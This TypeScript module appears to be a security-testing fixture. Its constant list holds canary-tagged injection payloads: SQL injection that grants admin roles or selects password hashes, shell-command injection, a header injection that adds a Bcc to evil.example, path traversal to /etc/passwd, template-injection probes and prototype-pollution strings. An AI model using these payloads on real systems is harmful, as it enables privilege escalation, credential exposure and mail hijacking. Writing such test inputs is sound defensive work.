/** What is planted: in no text of ours, so that wherever it is found it came from outside. */
export const mark = 'zqx9471'
/** What a template makes of the two numbers below. */
export const product = String(1_234_567 * 7_654_321)
const times = '1234567*7654321'
export const evil = `${mark}@evil.example`

/** Each tries to be more than a value, in the language of whoever reads it next. */
export const payloads: readonly string[] = [
  `${mark}'; update accounts set roles = '{admin}'; --`,
  `${mark}") or 1=1) union select password_hash from accounts --`,
  `1) or (select 1 from pg_sleep(5) where '${mark}' <> '')--`,
  `${mark}\\' || pg_sleep(5) || '`,
  `name desc, (select '${mark}')`,
  `${mark};touch /tmp/${mark};$(touch /tmp/${mark})|touch /tmp/${mark}\`touch /tmp/${mark}\``,
  `${mark}\r\nBcc: ${evil}\r\nX-${mark}: 1\r\nSet-Cookie: ${mark}=1\r\n\r\n${mark}`,
  `../../../../../../../../etc/passwd`,
  `..%2f..%2f..%2f..%2f..%2fetc%2fpasswd`,
  `{{${times}}}$\{${times}}#{${times}}<%= ${times} %>{%${times}%}`,
]

/** Names that every object has already; as text, because an object literal would take them for something else. */
export const pollutions: readonly string[] = [
  `"__proto__":{"${mark}":1}`,
  `"constructor":{"prototype":{"${mark}":1}}`,
  `"__proto__.${mark}":1,"constructor.prototype.${mark}":1`,
]
